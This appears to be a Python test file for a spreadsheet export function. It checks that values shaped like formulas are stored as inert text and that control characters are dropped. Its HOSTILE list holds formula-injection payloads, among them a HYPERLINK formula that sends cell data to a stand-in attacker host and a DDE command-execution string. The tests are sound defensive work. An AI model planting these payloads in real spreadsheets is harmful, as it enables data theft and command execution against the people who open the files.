"""core.excel: what a stored value can do to an export (nothing)."""
import io

from openpyxl import load_workbook

from core.excel import build_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A5&B5,"点击核对")',
    "=cmd|' /C calc'!A0",
    "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
]


def _read(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def test_text_that_looks_like_a_formula_is_written_as_text_and_shown_unchanged():
    content = build_workbook(title="t", notes=[], headers=["h"], rows=([v] for v in HOSTILE))
    sheet = _read(content)
    cells = [sheet.cell(row=3 + i, column=1) for i in range(len(HOSTILE))]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
    # XML normalises a bare CR to LF when the file is read back; everything else is byte-identical.
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in HOSTILE]
    assert b"<f>" not in content  # no formula element anywhere in the file


def test_control_characters_are_dropped_not_fatal():
    content = build_workbook(title="t\x01", notes=["n\x0b"], headers=["h\x00"], rows=[["三组\x0b12号", 3]])
    sheet = _read(content)
    assert sheet.cell(row=4, column=1).value == "三组12号"
    assert sheet.cell(row=4, column=2).value == 3
